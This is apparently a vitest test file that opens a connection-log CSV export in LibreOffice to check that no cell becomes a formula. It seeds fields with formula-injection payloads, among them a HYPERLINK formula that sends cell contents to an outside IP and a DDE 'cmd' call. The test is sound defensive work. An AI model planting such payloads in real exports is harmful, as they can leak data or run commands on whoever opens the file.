// A CSV export opened by a real spreadsheet: no cell becomes a formula, no row is lost.
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { expect, test } from 'vitest';
import { childEnv } from '#kernel/process/env.ts';
import { noon, openConnectionLog, seen } from '../support/connection-log.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { verifies } from '../support/verifies.ts';

/** Asked for its version LibreOffice would start whole: a path is enough to know. */
const installed = spawnSync('which', ['soffice']).status === 0;

if (!installed && childEnv().REQUIRE_REAL !== '1') {
  test('spreadsheet', (context) =>
    context.skip('soffice is not installed: apt-get install libreoffice-calc (REQUIRE_REAL=1 makes this a failure)'));
} else {
  verifies(
    'rest.connections.export-csv-formula',
    'LibreOffice finds every row of an export and no formula, whatever hosts and processes are called',
    exportIsHarmless,
    120_000,
  );
}

const rows = 300;
const hostile = [
  '=1+1',
  '=HYPERLINK("http://203.0.113.1/?"&A1)',
  "=cmd|'/c calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  ' =1+1',
  '\t=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '"=1+1',
  '","=1+1',
  '"\n=1+1,"',
  '\u00a0=1+1',
  'a;=1+1',
];

async function exportIsHarmless(): Promise<void> {
  await using log = openConnectionLog();
  const address = (index: number) => `203.0.${index >> 8}.${index & 255}`;
  await log.record(Array.from({ length: rows }, (_, index) => seen({ dst: address(index) })));
  for (const [index, host] of hostile.entries()) {
    await log.describe('destination', address(index), { host, org: host, city: host });
  }
  const { text } = await log.export({ format: 'csv', from: '0', to: String(noon) });

  const opened = openInSpreadsheet(text);
  expect(opened.rows).toBe(rows + 1);
  expect(opened.formulas).toEqual([]);
  expect(opened.text).toContain('HYPERLINK');
  // The same spreadsheet does run what is not guarded: the check above sees formulas when there are any.
  const unguarded = openInSpreadsheet(text.replaceAll('"\'=', '"='));
  expect(unguarded.formulas).toContain('of:=1+1');
}

/** What LibreOffice makes of a CSV text; it is told to run formulas, as a person's double click may. */
function openInSpreadsheet(csv: string): { rows: number; formulas: string[]; text: string } {
  using folder = temporaryFolder();
  const file = path.join(folder.path, 'export.csv');
  writeFileSync(file, csv);
  const separators = '44,34,76,1,,0,false,true,false,false,false,-1,true';
  const { status, stderr } = spawnSync(
    'soffice',
    [
      `-env:UserInstallation=${pathToFileURL(path.join(folder.path, 'profile'))}`,
      ...['--headless', '--norestore', `--infilter=CSV:${separators}`],
      ...['--convert-to', 'fods', '--outdir', folder.path, file],
    ],
    { encoding: 'utf8', timeout: 90_000 },
  );
  expect(status, stderr).toBe(0);
  const text = readFileSync(path.join(folder.path, 'export.fods'), 'utf8');
  const repeated = [...text.matchAll(/<table:table-row\b([^>]*)>/g)].map(([, attributes = '']) =>
    Number(/table:number-rows-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1),
  );
  const formulas = [...text.matchAll(/table:formula="([^"]*)"/g)].map(([, formula = '']) => formula);
  return { rows: repeated.reduce((sum, count) => sum + count, 0), formulas, text };
}
